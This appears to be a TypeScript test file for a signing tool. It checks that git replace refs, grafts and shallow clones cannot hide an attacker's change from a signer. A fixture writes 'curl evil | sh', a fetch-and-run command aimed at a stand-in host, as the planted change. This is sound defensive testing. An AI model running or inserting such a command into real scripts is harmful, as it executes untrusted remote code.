import { appendFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect } from 'vitest';
import { attack, type Scene } from './scene.ts';

/** An event that bob and carol are asked to sign. */
async function startEvent(scene: Scene): Promise<void> {
  scene.world.push({ 'targets/tools/greet.sh': 'curl evil | sh\n' });
  await scene.update();
}

/**
 * git lets a clone read other objects than a commit names: by replace refs, which can be pushed and fetched, by grafts, and by
 * leaving history out. Mallory has one of these on bob's machine or on the remote, so that he is shown a tidy change, or
 * another past, while his signature goes under what she wants.
 */
describe('objects that stand for others', () => {
  attack('by replace refs, here and on the remote, are not looked at', async scene => {
    await startEvent(scene);
    const bob = scene.world.person('bob');
    bob.git.git('fetch', '--quiet', 'origin', '+refs/heads/*:refs/remotes/origin/*');
    for (const git of [bob.git, scene.world.remote]) {
      const [event, main] = git === bob.git ? ['origin/sign/update', 'origin/main'] : ['sign/update', 'main'];
      git.git('replace', `${event}:targets/tools/greet.sh`, `${main}:targets/tools/greet.sh`);
      git.git('replace', `${event}:metadata/tools.json`, `${main}:metadata/tools.json`);
      // The person's own git shows mallory's picture.
      expect(git.git('show', `${event}:targets/tools/greet.sh`)).toBe('echo hello');
    }
    const seen = await scene.sign('bob', undefined, question => !question.startsWith('Sign'));
    expect([seen.signed, seen.refusal?.code]).toEqual([[], 'DECLINED']);
    expect(seen.screen).toContain('tools/greet.sh');
    expect(seen.screen).toContain('changes: 15 bytes (it had 11 bytes)');
    const page = await scene.page();
    expect([page.verdict, page.rules]).toEqual(['pending', ['role-quorum']]);
    expect(page.markdown).toContain('tools/greet.sh');
  });

  attack('by grafts do not change which history is main', async scene => {
    await startEvent(scene);
    const bob = scene.world.person('bob');
    bob.git.git('fetch', '--quiet', 'origin', '+refs/heads/*:refs/remotes/origin/*');
    const event = bob.git.sha('origin/sign/update');
    mkdirSync(join(bob.folder, '.git', 'info'), { recursive: true });
    appendFileSync(join(bob.folder, '.git', 'info', 'grafts'), `${event}\n`);
    const seen = await scene.sign('bob');
    expect([seen.signed, seen.refusal]).toEqual([['tools'], undefined]);
    expect((await scene.page()).verdict).toBe('pending');
  });

  attack('or are left out of a shallow clone end the command', async scene => {
    await startEvent(scene);
    const bob = scene.world.person('bob');
    bob.git.git('fetch', '--quiet', '--depth=1', 'origin', 'main', 'sign/update');
    expect(bob.git.git('rev-parse', '--is-shallow-repository')).toBe('true');
    const seen = await scene.sign('bob');
    expect([seen.signed, seen.refusal?.code]).toEqual([[], 'SHALLOW']);
    expect(seen.screen).toContain('run git fetch --unshallow');
    expect(bob.signatures).toBe(0);
  });
});
